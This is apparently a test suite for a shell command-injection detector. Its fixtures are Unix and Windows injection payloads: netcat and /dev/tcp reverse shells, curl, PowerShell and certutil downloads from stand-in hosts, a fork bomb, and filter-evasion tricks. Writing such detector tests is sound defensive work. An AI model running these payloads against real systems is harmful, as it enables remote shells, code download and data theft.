import { detectShell, shellMayFind, setGlobNarrowing, setTokenShortcut, UNIX_STRONG, UNIX_WEAK, WIN } from "./shell";
import { classesOf } from "./charclass";
import { Detector, Level, Finding, sameBothWays } from "./finding";

function level(s: string): i32 { let f = detectShell(s); return f === null ? 0 : <i32>f.level; }
function id(s: string): string { let f = detectShell(s); return f === null ? "" : f.id; }
function det(s: string): i32 { let f = detectShell(s); return f === null ? 0 : <i32>f.detector; }

describe("shell: Unix command injection", () => {
  it("separators followed by commands", () => {
    expect(level("127.0.0.1; cat /etc/hosts")).toBe(Level.Basic);
    expect(level("x | id")).toBe(Level.Standard);
    expect(level("a && uname -a")).toBe(Level.Standard);
    expect(level("a || whoami")).toBe(Level.Standard);
    expect(level("1;ls -la")).toBe(Level.Standard);
    expect(level("x; sleep 7")).toBe(Level.Standard);
    expect(id("x | id")).toBe("BW-UNIX-CMD-1");
    expect(det("x | id")).toBe(Detector.UnixCmd);
  });
  it("substitutions", () => {
    expect(level("$(whoami)")).toBe(Level.Standard);
    expect(level("name=`uname -a`")).toBe(Level.Standard);
    expect(level("<(id)")).toBe(Level.Standard);
  });
  it("reverse shells and downloads", () => {
    expect(level("; nc -e /bin/sh 10.1.2.3 9001")).toBe(Level.Basic);
    expect(level("x; bash -i >& /dev/tcp/10.1.2.3/9001 0>&1")).toBe(Level.Basic);
    expect(level("| curl http://h.example/s.sh")).toBe(Level.Basic);
  });
  it("quote, escape and expansion obfuscation", () => {
    expect(level("; c'a't /etc/hosts")).toBe(Level.Basic);
    expect(level("1;c\\at /etc/hosts")).toBe(Level.Basic);
    expect(level("; wh$@oami")).toBe(Level.Standard);
    expect(level("cat${IFS}/etc/hosts")).toBe(Level.Standard);
    expect(level("x;/bin/ca? /et?/hosts")).toBeLessThanOrEqual(Level.Standard);
    expect(level("{cat,/etc/hosts}")).toBe(Level.Standard);
    expect(level("'w'hoami")).toBe(Level.Standard);
  });
  it("whole-value command lines only when unmistakable", () => {
    expect(level("cat /etc/hosts")).toBe(Level.Standard);
    expect(level("nohup whoami")).toBeLessThanOrEqual(Level.Standard);
    expect(level("ifconfig; echo")).toBeLessThanOrEqual(Level.Standard);
    expect(level("f(){ f|f& };f")).toBe(Level.Standard);
  });
});

describe("shell: Windows command injection", () => {
  it("cmd, PowerShell and environment variables", () => {
    expect(level("x & cmd /c dir")).toBe(Level.Standard);
    expect(det("x & cmd /c dir")).toBe(Detector.WinCmd);
    expect(level("powershell -enc SQBFAFgA")).toBe(Level.Standard);
    expect(level("%COMSPEC% /c ver")).toBe(Level.Standard);
    expect(level("IEX (New-Object Net.WebClient).DownloadString('http://h.example')")).toBe(Level.Standard);
    expect(level("x | w^hoami")).toBe(Level.Standard);
    expect(level("x & certutil.exe -urlcache -f http://h.example/a a.exe")).toBe(Level.Basic);
  });
  it("can be restricted to one family", () => {
    let v = "x & cmd /c dir; cat /etc/group";
    expect(det(v)).toBe(Detector.UnixCmd); // the Basic Unix finding wins overall
    let w = detectShell(v, Detector.WinCmd);
    expect(w).not.toBeNull();
    expect(<i32>w!.detector).toBe(Detector.WinCmd);
    expect(detectShell("; cat /etc/group", Detector.WinCmd)).toBeNull();
  });
  it("commands on both systems are Windows when their arguments are", () => {
    expect(det("x & dir c:\\")).toBe(Detector.WinCmd);
    expect(det("x & type %SystemDrive%\\boot.ini")).toBe(Detector.WinCmd);
    expect(det("x; cat /etc/group")).toBe(Detector.UnixCmd);
  });
});

describe("shell: benign text passes at Standard", () => {
  it("punctuation in prose", () => {
    expect(level("salt; pepper; cat food")).toBe(0);
    expect(level("Tom & Jerry")).toBe(0);
    expect(level("R&D and Q&A")).toBe(0);
    expect(level("rock & roll | jazz; blues")).toBe(0);
    expect(level("see docs; time is short")).toBe(0);
    // Everyday words that are also commands, ending a value: at most Strict.
    let l = level("cats & dogs & more");
    expect(l == 0 || l == Level.Strict).toBe(true);
    l = level("work hard; sleep");
    expect(l == 0 || l == Level.Strict).toBe(true);
    // Language names listed in prose.
    l = level("skills: java, python & php");
    expect(l == 0 || l == Level.Strict).toBe(true);
    expect(level("x; python -c 'import os'")).toBe(Level.Basic);
  });
  it("tables and paths", () => {
    expect(level("| id | name | email |\n|----|------|-------|\n| 1 | Ann | a@b.c |")).toBe(0);
    expect(level("/usr/local/bin")).toBe(0);
    expect(level("C:\\Users\\ann\\Documents")).toBe(0);
    expect(level("src/main/java/App.java")).toBe(0);
  });
  it("pasted snippets in multi-line comments are at most Strict", () => {
    let l = level("Steps:\n\n```sh\ncat /var/log/app.log | grep ERROR | wc -l\n```\n\nThanks");
    expect(l == 0 || l == Level.Strict).toBe(true);
    l = level("query {\n  user(id: 1) {\n    id\n    name\n  }\n}");
    expect(l).toBe(0);
    expect(level("I ran wget yesterday and it worked")).toBe(0);
  });
  it("PHP and markup with ? and ;", () => {
    expect(level("<?php echo $x; ?>")).toBe(0);
  });
});

describe("shell: bounded work", () => {
  it("handles long hostile input", () => {
    expect(level(";'".repeat(100000))).toBeGreaterThanOrEqual(0);
    expect(level("{a".repeat(100000))).toBe(0);
    expect(level("a & b ".repeat(100000) + "; id")).toBe(Level.Standard);
  });
});

describe("shellMayFind", () => {
  it("skips single words without shell punctuation", () => {
    const skip = ["whoami", "asc", "45", "key:value", "a,b{c}", "x_y@z", "?*64", "1.5-2"];
    for (let i = 0; i < skip.length; i++) {
      expect(shellMayFind(classesOf(skip[i]))).toBe(false);
      expect(detectShell(skip[i])).toBeNull();
    }
  });
  it("runs on spaces, separators, quoting and the letter-plus-punctuation shapes", () => {
    const run = ["sudo whoami", "x;id", "cat /etc/passwd", "/dev/tcp/1.2.3.4/80", "net.webclient", "new-object", "{????64,/x}", "whoami)", "w^hoami", "c'a't"];
    for (let i = 0; i < run.length; i++) expect(shellMayFind(classesOf(run[i]))).toBe(true);
    expect(detectShell("sudo whoami")).not.toBeNull();
    expect(detectShell("net.webclient")).not.toBeNull();
    expect(detectShell("{????64,/x}")).not.toBeNull();
  });
});

describe("shell: the command-name prefilter (first two letters)", () => {
  it("still finds names in any case, behind paths, with .exe and of one letter", () => {
    expect(det("x; WHOAMI")).toBe(Detector.WinCmd);
    expect(det("x; /usr/bin/id")).toBe(Detector.UnixCmd);
    expect(det("a | Cmd.exe /c dir")).toBe(Detector.WinCmd);
    expect(det("a & PING.EXE -n 3 127.0.0.1")).toBe(Detector.WinCmd);
    expect(det("x | w")).toBe(Detector.UnixCmd);
  });
  it("lets ordinary first words through without a finding", () => {
    expect(det("x; winter sale")).toBe(0);
    expect(det("blue; jacket")).toBe(0);
  });
});

describe("shell: glob-pattern command names", () => {
  it("match names of the pattern's length, with ?, [..] and * in any place", () => {
    expect(det("x;/bin/c?t /etc/hosts")).toBe(Detector.UnixCmd);
    expect(det("x;/???/c[a]t /etc/hosts")).toBe(Detector.UnixCmd);
    expect(det("x; ?hoami")).toBe(Detector.UnixCmd);
    expect(det("x; wh*i")).not.toBe(0);
    expect(det("x; W?OAMI")).toBe(Detector.WinCmd);
  });
  it("do not match when the length or the first letter rules every name out", () => {
    // One unit too many or too few for "cat", or a first letter no name has.
    expect(det("x;/bin/c??t /etc/hosts")).toBe(0);
    expect(det("x;/bin/c? /etc/hosts")).toBe(0);
    expect(det("x;/bin/c[at /etc/hosts")).toBe(0);
    expect(detectShell("https://shop.example.com/p/25472?ref=road")).toBeNull();
    expect(detectShell("see https://shop.example.com/search?q=cat&page=2 for more")).toBeNull();
  });
});

// The finding with the glob narrowing and without it are the same.
function sameWithoutNarrowing(v: string): bool {
  return sameBothWays(v, (s: string): Finding | null => detectShell(s), setGlobNarrowing);
}

describe("shell: the glob narrowing agrees with trying every name", () => {
  it("on every command name spelled with ?, [..], * and case changes, in command position", () => {
    let lists = [UNIX_STRONG, UNIX_WEAK, WIN];
    let findings = 0;
    for (let l = 0; l < lists.length; l++) {
      for (let k = 0; k < lists[l].length; k++) {
        let name = lists[l][k];
        let n = name.length;
        let forms = new Array<string>();
        for (let i = 0; i < n; i++) {
          forms.push(name.substring(0, i) + "?" + name.substring(i + 1));
          forms.push(name.substring(0, i) + "[" + name.charAt(i) + "x]" + name.substring(i + 1));
          forms.push(name.substring(0, i) + "*" + name.substring(i + 1));
          forms.push(name.substring(0, i) + "??" + name.substring(i + 1));
          forms.push(name.substring(0, i) + "[" + name.charAt(i) + name.substring(i + 1));
        }
        forms.push(name.toUpperCase() + "?");
        forms.push("?" + name.toUpperCase().substring(1));
        for (let f = 0; f < forms.length; f++) {
          let vs = ["x; " + forms[f] + " /etc/passwd", "a|/bin/" + forms[f] + " -la", forms[f] + "?x=1", "x& " + forms[f] + ".exe /c dir"];
          for (let v = 0; v < vs.length; v++) {
            expect(sameWithoutNarrowing(vs[v])).toBe(true, vs[v]);
            if (detectShell(vs[v]) !== null) findings++;
          }
        }
      }
    }
    expect(findings).toBeGreaterThan(1000);
  });
});

// The finding with the plain-token shortcut and without it are the same.
function sameWithoutShortcut(v: string): bool {
  return sameBothWays(v, (s: string): Finding | null => detectShell(s), setTokenShortcut);
}

// Only the characters the shortcut reads (letters, digits, space, - . _ @ : + = # ! ~).
function tokenChars(v: string): bool {
  for (let i = 0; i < v.length; i++) {
    let c = v.charCodeAt(i);
    if (!((c >= 48 && c <= 57) || ((c | 32) >= 97 && (c | 32) <= 122) || "-._@:+=#!~ ".indexOf(v.charAt(i)) >= 0)) return false;
  }
  return true;
}

describe("shell: the plain-token shortcut agrees with the full scan", () => {
  it("on tokens built from command names, PowerShell words and the token characters", () => {
    let seed: u32 = 12345;
    let parts = new Array<string>();
    let lists = [UNIX_STRONG, UNIX_WEAK, WIN];
    for (let l = 0; l < lists.length; l++) for (let k = 0; k < lists[l].length; k++) {
      parts.push(lists[l][k]);
      parts.push(lists[l][k].toUpperCase());
    }
    let extra = ["invoke-expression", "Invoke-WebRequest", "iex", "start-process", "new-object", "net.webclient", "powershell",
      "pwsh", "downloadstring", "w.exe", "cmd.exe", "SKU-1005", "ord-42", "Item", "number", "in", "blue", "road", "shoes", "trail", "leather", "-", ".", "_", "@",
      ":", "+", "=", "#", "!", "~", " ", "  ", "1", "42", "a", "i", "d", "n", "s", "p", "e", "o", "t", "w", "-e", "/", "%", ";", "é"];
    for (let k = 0; k < extra.length; k++) parts.push(extra[k]);
    let found = 0, cleanTokens = 0;
    for (let round = 0; round < 40000; round++) {
      let v = "";
      let count = 1 + <i32>(seed % 4);
      for (let j = 0; j < count; j++) {
        seed = seed * 1103515245 + 12345;
        v += parts[<i32>((seed >> 8) % <u32>parts.length)];
        seed = seed * 1103515245 + 12345;
        let glue = (seed >> 8) % 6;
        if (glue == 1) v += " "; else if (glue == 2) v += "-"; else if (glue == 3) v += ".";
      }
      expect(sameWithoutShortcut(v)).toBe(true, v);
      if (detectShell(v) !== null) found++;
      else if (tokenChars(v)) cleanTokens++;
    }
    // The inputs reach findings (so the comparison means something) and clean tokens alike.
    expect(found).toBeGreaterThan(500);
    expect(cleanTokens).toBeGreaterThan(5000);
  });
  it("skips ordinary tokens and still finds PowerShell words in them", () => {
    expect(detectShell("SKU-1005")).toBeNull();
    expect(detectShell("Item number 5 in blue")).toBeNull();
    expect(detectShell("x invoke-expression")).not.toBeNull();
    expect(detectShell("start-process calc")).not.toBeNull();
  });
});
